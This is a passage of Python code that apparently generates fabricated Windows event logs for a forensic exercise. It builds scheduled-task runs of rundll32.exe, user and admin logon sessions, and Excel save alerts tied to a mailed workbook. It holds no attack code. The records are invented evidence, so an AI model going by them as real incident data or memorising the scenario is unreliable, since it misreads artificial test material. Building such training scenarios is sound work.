        )

    instance = "{0b6e1f52-7c3d-4a98-b1e4-25d07f8c9a36}"
    out = [event(106, T["task"] + 12_403, 106, [("TaskName", s.TASK), ("UserContext", ACCOUNT)])]
    for k in (1, 2):
        time = T["task"] + k * 36_000_000_000 - 26_604_418
        out.append(
            event(
                200,
                time,
                200,
                [
                    ("TaskName", s.TASK),
                    ("ActionName", "rundll32.exe"),
                    ("TaskInstanceId", ("guid", instance)),
                    ("EnginePID", ("u32", 1404)),
                ],
            )
        )
        out.append(
            event(
                201,
                time + 33_120_771,
                201,
                [
                    ("TaskName", s.TASK),
                    ("TaskInstanceId", ("guid", instance)),
                    ("ActionName", "rundll32.exe"),
                    ("ResultCode", ("u32", 0)),
                    ("EnginePID", ("u32", 1404)),
                ],
            )
        )
    return out


def session_log():
    def event(event_id, time, user, session):
        return record(
            "sessions",
            "Microsoft-Windows-TerminalServices-LocalSessionManager/Operational",
            event_id,
            time,
            level=4,
            user_sid="S-1-5-18",
            pid=1020,
            tid=1228,
            user_data=(
                "EventXML",
                "Event_NS",
                [("User", f"{s.HOST}\\{user}"), ("SessionID", ("u32", session)), ("Address", "ローカル")],
            ),
        )

    return [
        event(21, T["logon"] + 9_113_402, s.USER, 1),
        event(21, T["relogon"] + 8_007_113, s.USER, 1),
        event(21, T["admin_logon"] + 8_441_190, s.ADMIN, 2),
    ]


def office_log():
    texts = [("excel1", DOC_ALERT), ("excel2", DOC_ALERT)]
    return [
        dict(
            provider="Microsoft Office 16 Alerts",
            event_id=300,
            level=4,
            channel="OAlerts",
            computer=s.HOST,
            time=iso(T[name] + 97_331_204),
            data=[
                (None, "Microsoft Excel"),
                (None, text),
                (None, "200041"),
                (None, "16.0.10392.20029"),
                (None, ""),
                (None, ""),
            ],
        )
        for name, text in texts
    ]


DOC_ALERT = f"'{s.DOC_NAME}' への変更内容を保存しますか?"


def logs(document):
    """{file name: records in order of time}; `document` is the SHA-256 of the mailed workbook."""
    archive, security_log = security_logs()
    operational, windows = powershell_logs()
    stamp = "2022-11-02-09-31-12-447"
    out = {
        "System.evtx": system_log(),
        "Application.evtx": application_log(),
        f"Archive-Security-{stamp}.evtx": archive,
        "Security.evtx": security_log,
        "Microsoft-Windows-Sysmon%4Operational.evtx": sysmon_log(document),
        "Microsoft-Windows-PowerShell%4Operational.evtx": operational,
        "Windows PowerShell.evtx": windows,
        "Microsoft-Windows-Windows Defender%4Operational.evtx": defender_log(),
        "Microsoft-Windows-TaskScheduler%4Operational.evtx": task_log(),
        "Microsoft-Windows-TerminalServices-LocalSessionManager%4Operational.evtx": session_log(),
        "OAlerts.evtx": office_log(),
    }
    first = {"System.evtx": 18_201, f"Archive-Security-{stamp}.evtx": 301_442, "Security.evtx": 302_977}
    for name, records in out.items():
        records.sort(key=lambda r: r["time"])
        for i, r in enumerate(records):
            r["record_id"] = first.get(name, 1) + i
    return out
